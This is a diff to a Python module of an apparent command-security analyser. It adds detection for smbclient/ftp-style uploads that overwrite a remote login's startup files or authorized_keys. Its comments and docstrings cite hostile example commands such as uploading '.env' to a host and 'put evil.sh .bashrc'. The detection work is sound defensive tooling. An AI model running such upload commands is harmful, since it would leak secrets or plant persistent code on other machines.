@@ -4,7 +4,8 @@
 bye' host``, ``smbclient //h/s -c 'put .env'``: the client reads commands (from stdin, a
 batch file or an option) and ``put``/``mput``/``reput``/``append``/``send`` upload local
 files, so a secret file named there leaves the machine as surely as ``scp .env host:``;
-a ``!CMD`` line runs CMD in the local shell, so CMD is classified as shell code.
+a ``!CMD`` line runs CMD in the local shell, so CMD is classified as shell code; and a
+``put`` onto the remote login's startup files or ``authorized_keys`` plants code there.
 A local file is secret when it is secret wherever it is (``.env``, a private key by name,
 :func:`._secrets.secret_file`) or under a sensitive home path (``~/.ssh/id_rsa``,
 :func:`._checks.check_args`). ``get`` downloads and ``ls``/``cd`` are ordinary.
@@ -19,6 +20,7 @@ from typing import TYPE_CHECKING
 
 from ._checks import check_args
 from ._flow import Flow
+from ._outfiles import remote_check
 from ._resolve import Invocation
 from ._scripts import script_text
 from ._secrets import secret_file
@@ -61,6 +63,7 @@ def xfer_client(run: Run, inv: Invocation, stdin: Flow | None) -> None:
     for batch in batches:
         if batch.text != DYN:
             _local_commands(run, inv, batch)
+            _remote_targets(run, inv, batch)
     for batch in batches:
         if batch.text != DYN and _upload_secret(run, inv, batch):
             return
@@ -76,6 +79,48 @@ def _local_commands(run: Run, inv: Invocation, batch: Field) -> None:
         if line.startswith("!") and line[1:].strip():
             run.run_code(Field(line[1:], batch.span, batch.taint), f"{inv.name} !",
                          inv.word.span, None, positional=[])
+
+
+def _remote_targets(run: Run, inv: Invocation, batch: Field) -> None:
+    """``put evil.sh .bashrc``: the remote file a ``put``-like command writes, checked by
+    the rules for writes on another machine (a relative path is under the login's home
+    until the batch changes directory)."""
+    moved = False
+    for command in _commands(batch.text):
+        words = [w.strip("\"'") for w in command.split()]
+        if not words:
+            continue
+        verb = words[0].lstrip("-@!").lower()
+        if verb in ("cd", "lcd") or verb == "open":
+            moved = moved or verb == "cd"
+            continue
+        if verb not in _UPLOADS or verb in ("mput", "mirror"):
+            continue
+        target = _remote_name(words)
+        if target is None:
+            continue
+        if not target.startswith(("/", "~")):
+            if moved:
+                continue
+            target = "~/" + target
+        remote_check(run, Field(target, batch.span), f"{inv.name} uploads to")
+
+
+def _remote_name(words: list[str]) -> str | None:
+    """The remote name of ``put LOCAL REMOTE`` (lftp: ``put -o REMOTE LOCAL``)."""
+    operands: list[str] = []
+    named: str | None = None
+    skip = False
+    for w in words[1:]:
+        if skip:
+            named, skip = w, False
+        elif w == "-o":
+            skip = True
+        elif not w.startswith("-"):
+            operands.append(w)
+    if named is not None:
+        return named
+    return operands[1] if len(operands) > 1 else None
 
 
 def _upload_secret(run: Run, inv: Invocation, batch: Field) -> bool:
